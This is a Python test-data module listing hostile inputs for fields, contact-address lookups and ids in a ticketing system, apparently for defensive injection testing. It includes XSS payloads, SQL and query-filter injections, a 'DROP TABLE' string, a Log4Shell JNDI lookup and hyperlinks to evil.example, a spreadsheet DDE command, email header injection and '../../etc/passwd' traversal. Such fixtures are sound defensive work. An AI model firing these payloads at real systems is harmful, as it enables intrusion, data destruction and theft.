"""What hostile people write: text that is markup, a query, a template or a header somewhere."""

from __future__ import annotations

from typing import Final

__all__ = ["HOSTILE", "HOSTILE_ADDRESSES", "HOSTILE_IDS"]

HOSTILE: Final = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</td></tr></table><h1>System</h1>",
    "<a href='javascript:alert(1)'>invoice</a>",
    "&lt;b&gt; &amp; &#60;",
    "<!-- hidden --> -->",
    "]]><x>",
    "' or '1'='1",
    "'; DROP TABLE tickets; --",
    '" or ""="',
    "O'Brien",
    "') or (1 eq 1",
    "a' or contains(fullname,'",
    "x\\' or 1 eq 1",
    "* OR type:user",
    '"" type:ticket role:admin',
    "name:* -status:closed",
    "%25' OR '1",
    "%_[a-z]%",
    "{{ticket.requester.email}}",
    "{% for u in users %}{{u}}{% endfor %}",
    "${jndi:ldap://evil.example/a}",
    "#{7*7} <%= 7*7 %>",
    "{name} {reason}",
    "{color:red}red{color} [link|http://evil.example]",
    "!http://evil.example/a.png!",
    "[click](javascript:alert(1)) **bold** `code`",
    "first\r\nBcc: all@acme.example",
    "first\nSubject: other",
    "a\u2028b\u2029c",
    "a\u202etxt.exe",
    "zero\u200bwidth\u200djoiner",
    "@everyone <!channel> #ticket",
    '=HYPERLINK("http://evil.example")',
    "+1+cmd|' /C calc'!A0",
    "../../etc/passwd",
    "Ω≈ç√ مرحبا שלום 👩‍👩‍👧",
)
"""For names, subjects, texts, tags and fields."""

HOSTILE_ADDRESSES: Final = (
    "' or '1'='1",
    "x' or email ne '",
    "eleni@shop.example' or email ne 'x",
    "a' or name ne 'x",
    "a@b.example' or contains(emailaddress1,'@')--",
    "*",
    "*@*",
    "%",
    "%@%",
    '" OR type:user OR "',
    '"" role:end-user',
    "email:*",
    "eleni*",
    "eleni@*",
    "_leni@shop.example",
    "eleni@shop.example OR nikos@shop.example",
    'nobody@x.example" email:"eleni@shop.example',
    "nobody@x.example&email=eleni@shop.example",
    "nobody@x.example#",
    "nobody@x.example\r\nX-Query: eleni@shop.example",
    "nobody@x.example,eleni@shop.example",
    "[a-z]%",
    "null",
    "",
    " ",
)
"""For what contacts are looked up by: each of them is nobody's."""

HOSTILE_IDS: Final = (
    "../users",
    "..%2f..%2fusers",
    "1/../2",
    "1?x=1",
    "1#x",
    "1 or 1 eq 1",
    "1) or (1 eq 1",
    "' or '1'='1",
    "*",
    "-1",
    "0",
    "99999999999999999999",
    "١٢٣",
    "a\r\nb",
    "null",
)
"""For ids of tickets and contacts that nobody gave out."""
